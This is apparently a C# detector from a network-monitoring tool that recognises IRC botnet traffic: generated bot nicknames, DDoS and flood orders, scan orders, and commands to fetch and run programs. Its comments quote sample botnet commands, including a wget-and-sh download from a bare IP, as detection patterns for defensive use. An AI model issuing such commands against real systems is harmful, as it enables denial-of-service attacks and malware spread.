using System.Buffers;
using NetHawk.Core.Peek;

namespace NetHawk.Capture.Peek;

/// <summary>
/// A bot in its herder's channel: a nickname that a program made (country, system and a number between bars or brackets), or an order to attack somebody. People draw such names and talk of
/// floods; but not with an address behind a command.
/// </summary>
internal static class IrcBot
{
    private static readonly SearchValues<byte> OfAddress = SearchValues.Create("0123456789."u8);

    private const int LeastDigits = 5, LongestPart = 3;

    public static Indicator? Look(ReadOnlySpan<byte> p, bool fromResponder)
    {
        for (int count = 0; count < 8 && !p.IsEmpty; count++)
        {
            var line = PeekText.Line(p, out int next);
            p = p[next..];
            if (!fromResponder && PeekText.StartsIgnoreCase(line, "NICK "u8) && IsMade(line[5..])) return Of("a nickname as bots give themselves", fromResponder);
            if (!fromResponder && PeekText.StartsIgnoreCase(line, "NICK "u8) && NamesSystem(line[5..])) return new(IndicatorKind.RemoteAccess, Indicator.MadeNickname, "a nickname with a country and a system in brackets, as bots give themselves");
            if (!fromResponder && PeekText.StartsIgnoreCase(line, "PRIVMSG "u8) && line.IndexOf(" :"u8) is > 0 and var said && ShellPeek.Look(line[(said + 2)..], fromResponder) is { Kind: IndicatorKind.Shell }) return Of("what a shell says, into a channel", fromResponder);
            if (fromResponder && line.StartsWith(":"u8) && IsOrder(line)) return Of("an order to attack somebody, in a channel", fromResponder);
            if (fromResponder && line.StartsWith(":"u8) && IsWormsOrder(line)) return Of("an order to search for hosts to break into, with threads and times, in a channel", fromResponder);
            if (fromResponder && line.StartsWith(":"u8) && IsLoad(line)) return new(IndicatorKind.RemoteAccess, Indicator.ChannelLoader, "an order to load and run a program from a bare address, in a channel") { FromResponder = true };
        }

        return null;
    }

    /// <summary>The same without a channel: "!* HTTPFLOOD 192.0.2.9 80 60" (Gafgyt and alike), at the start of what the far end says.</summary>
    public static Indicator? Order(ReadOnlySpan<byte> p)
    {
        if (p.Length < 12 || p[0] is not ((byte)'!' or (byte)'.')) return null;
        var text = PeekText.Line(p, out _)[1..].TrimStart("* "u8);
        int space = text.IndexOf((byte)' ');
        return space > 0 && IsAttack(text[..space]) && IsAddress(text[(space + 1)..]) ? Of("an order to attack somebody", fromResponder: true) : null;
    }

    private static Indicator Of(string text, bool fromResponder) => new(IndicatorKind.RemoteAccess, "irc-bot", text) { FromResponder = fromResponder };

    /// <summary>"[DEU|W10|x64]48213", "USA|XP|00|81273": three parts and more between bars and brackets, one a long number, one in capitals, and none of them a name: clans write "[GER|1337]Max".</summary>
    private static bool IsMade(ReadOnlySpan<byte> nick)
    {
        int parts = 0, numbers = 0, capitals = 0, bars = 0;
        while (!nick.IsEmpty)
        {
            int end = nick.IndexOfAny("|[]{}"u8);
            var part = end < 0 ? nick : nick[..end];
            if (end >= 0 && nick[end] == '|') bars++;
            nick = end < 0 ? [] : nick[(end + 1)..];
            if (part.IsEmpty) continue;
            parts++;
            if (part.Length >= LeastDigits && part.IndexOfAnyExceptInRange((byte)'0', (byte)'9') < 0) numbers++;
            else if (part.Length > LongestPart) return false;
            else if (part.Length is 2 or 3 && part.IndexOfAnyExceptInRange((byte)'A', (byte)'Z') < 0) capitals++;
        }

        return parts >= 3 && bars > 0 && numbers > 0 && capitals > 0;
    }

    private const int LeastTail = 5;

    /// <summary>Windows as bots shorten it; behind a version also whether the user is an administrator (a) or not (u).</summary>
    private static readonly byte[][] Systems = ["XP"u8.ToArray(), "WXP"u8.ToArray(), "W2K"u8.ToArray(), "2K"u8.ToArray(), "2K3"u8.ToArray(), "2K8"u8.ToArray(), "VIS"u8.ToArray(), "W7"u8.ToArray(), "W8"u8.ToArray(), "W10"u8.ToArray(), "W11"u8.ToArray()];

    /// <summary>"n{US|10a}zwaxzo", "[DEU|XP]02ced1": a country's letters and a system in brackets, and behind them letters and figures without a capital.</summary>
    private static bool NamesSystem(ReadOnlySpan<byte> nick)
    {
        int open = nick.IndexOfAny("[{"u8), bar = nick.IndexOf((byte)'|'), close = nick.IndexOfAny("]}"u8);
        if (open is < 0 or > 2 || bar < open || close < bar) return false;
        var country = nick[(open + 1)..bar];
        var tail = nick[(close + 1)..];
        return country.Length is 2 or 3 && country.IndexOfAnyExceptInRange((byte)'A', (byte)'Z') < 0 && IsSystem(nick[(bar + 1)..close])
            && tail.Length >= LeastTail && !tail.ContainsAnyExcept(OfTail);
    }

    private static readonly SearchValues<byte> OfTail = SearchValues.Create("abcdefghijklmnopqrstuvwxyz0123456789"u8);

    private static bool IsSystem(ReadOnlySpan<byte> text)
    {
        if (text.Length is 2 or 3 && text[^1] is (byte)'a' or (byte)'u' && text[..^1].IndexOfAnyExceptInRange((byte)'0', (byte)'9') < 0) return true;
        foreach (byte[] system in Systems)
            if (text.SequenceEqual(system)) return true;
        return false;
    }

    /// <summary>Said in a channel, or as its topic, which each who joins is told (332): ".advscan asn445 100 5 0 -b", a hole's name, threads, delay and minutes.</summary>
    private static bool IsWormsOrder(ReadOnlySpan<byte> line)
    {
        if (line.IndexOf(" PRIVMSG "u8) < 0 && line.IndexOf(" 332 "u8) < 0) return false;
        int at = line.IndexOf(" :"u8);
        if (at < 0 || at + 3 >= line.Length || line[at + 2] is not ((byte)'.' or (byte)'!' or (byte)'@' or (byte)'-')) return false;
        var text = line[(at + 3)..];
        int verb = text.IndexOf((byte)' ');
        return verb > 0 && PeekText.ContainsIgnoreCase(text[..verb], "SCAN"u8) && text[(verb + 1)..].IndexOf((byte)' ') > 0 && CountNumbers(text[(verb + 1)..]) >= 3;
    }

    /// <summary>":herder!x@y PRIVMSG #channel :.ddos.syn 192.0.2.9 80 60".</summary>
    private static bool IsOrder(ReadOnlySpan<byte> line)
    {
        int at = line.IndexOf(" PRIVMSG "u8);
        if (at < 0) return false;
        var text = line[(at + 9)..];
        at = text.IndexOf(" :"u8);
        if (at < 0 || at + 4 > text.Length || text[at + 2] is not ((byte)'.' or (byte)'!' or (byte)'@' or (byte)'-')) return false;
        text = text[(at + 3)..].TrimStart("* "u8);
        int space = text.IndexOf((byte)' ');

        // Who is meant comes first: "!bot @udpflood 192.0.2.9 80 60".
        if (space > 0 && space + 1 < text.Length && text[space + 1] == '@')
        {
            text = text[(space + 2)..];
            space = text.IndexOf((byte)' ');
        }

        return space > 0 && IsAttack(text[..space]) && IsAddress(text[(space + 1)..]) && (IsPlainAttack(text[..space]) || CountNumbers(text[(space + 1)..]) >= 2);
    }

    /// <summary>":herder!x@y PRIVMSG #channel :!* SH wget http://192.0.2.1/a;sh a", ".download http://192.0.2.1/a.exe c:\a.exe 1": a sign, and a program from a bare address that is to be run.</summary>
    private static bool IsLoad(ReadOnlySpan<byte> line)
    {
        int at = line.IndexOf(" PRIVMSG "u8);
        if (at < 0 || line[(at + 9)..].IndexOf(" :"u8) is not (>= 0 and var colon)) return false;
        var text = line[(at + 9 + colon + 2)..];
        if (text.Length < 16 || text[0] is not ((byte)'.' or (byte)'!' or (byte)'@' or (byte)'-')) return false;
        int url = text.IndexOf("http://"u8);
        if (url < 0) return false;
        var host = text[(url + 7)..];
        int end = host.IndexOfAnyExcept(OfAddress);
        bool bare = host.StartsWith("["u8) || IsSixthVersion(host) || (end is >= 7 and <= 15 && host[..end].Count((byte)'.') == 3 && host[end] is (byte)'/' or (byte)':');
        return bare && (host.IndexOf(".exe"u8) >= 0 || ((text.IndexOf("wget"u8) >= 0 || text.IndexOf("curl"u8) >= 0) && (host.IndexOf(";sh "u8) >= 0 || host.IndexOf("; sh "u8) >= 0 || host.IndexOf("|sh"u8) >= 0 || host.IndexOf("| sh"u8) >= 0 || host.IndexOf("chmod"u8) >= 0)));
    }

    /// <summary>An IPv6 address without its brackets, as careless programs write it.</summary>
    private static bool IsSixthVersion(ReadOnlySpan<byte> host) => host.IndexOf((byte)'/') is > 2 and var slash && host[..slash].Count((byte)':') >= 2;

    private static bool IsPlainAttack(ReadOnlySpan<byte> verb) => PeekText.ContainsIgnoreCase(verb, "DDOS"u8) || PeekText.ContainsIgnoreCase(verb, "FLOOD"u8);

    /// <summary>Numbers behind the address (port, seconds): who asks a helpful bot in a channel about a host ("!scan 192.0.2.9") gives at most a port.</summary>
    private static int CountNumbers(ReadOnlySpan<byte> text)
    {
        int numbers = -1;
        foreach (var range in text.Split((byte)' '))
            if (numbers++ >= 0 && (text[range].IsEmpty || text[range].IndexOfAnyExceptInRange((byte)'0', (byte)'9') >= 0)) return numbers - 1;
        return numbers;
    }

    private static bool IsAttack(ReadOnlySpan<byte> verb) =>
        IsPlainAttack(verb) || PeekText.StartsIgnoreCase(verb, "SYN"u8) || PeekText.StartsIgnoreCase(verb, "UDP"u8)
        || PeekText.ContainsIgnoreCase(verb, "SCAN"u8) || PeekText.StartsIgnoreCase(verb, "HTTP"u8);

    /// <summary>Four numbers with dots between.</summary>
    private static bool IsAddress(ReadOnlySpan<byte> text)
    {
        int end = text.IndexOf((byte)' ');
        var word = end < 0 ? text : text[..end];
        return word.Length is >= 7 and <= 15 && word.Count((byte)'.') == 3 && word.IndexOfAnyExcept(OfAddress) < 0;
    }
}
